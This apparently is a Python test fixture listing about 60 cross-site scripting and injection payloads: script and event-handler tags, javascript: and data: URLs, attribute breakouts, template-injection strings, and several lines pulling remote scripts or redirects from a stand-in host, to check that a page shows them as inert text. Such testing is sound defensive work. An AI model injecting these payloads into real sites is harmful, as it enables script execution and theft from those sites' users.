"""What somebody would write who wants a page to do as they say: 60 ways, none of which may do more than stand there as text."""

from __future__ import annotations

_RUN = "alert(document.domain)"
MARKUP = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<script src=https://elsewhere.example/a.js></script>",
    "<script type=module>import('https://elsewhere.example/a.js')</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}"/>',
    "<img src=https://elsewhere.example/a.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></math>",
    f"<body onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<form action=javascript:{_RUN}><button>go</button></form>",
    f"<button formaction=javascript:{_RUN}>go</button>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    "<link rel=stylesheet href=https://elsewhere.example/a.css>",
    "<style>* { display: none }</style>",
    "<style>@import 'https://elsewhere.example/a.css';</style>",
    "<base href=https://elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{_RUN}</script>",
)
BREAKS = (
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}',
    f"' onmouseover='{_RUN}",
    f"`onmouseover={_RUN}`",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</body></html><script>{_RUN}</script>",
    f'\\"}}); {_RUN}; //',
    f'"}}; {_RUN}; "',
    f"';{_RUN};//",
)
SCHEMES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
)
OTHER = (
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "{setup} {name} {clinic} {emergency}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "\u202ethgir ot tfel\u202c \u2066isolated\u2069 \u200f\u200e",
    "nul \0 bell \a escape \x1b[31m delete \x7f",
    "﷽" * 200 + "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
)
PAYLOADS = (*MARKUP, *BREAKS, *SCHEMES, *OTHER)
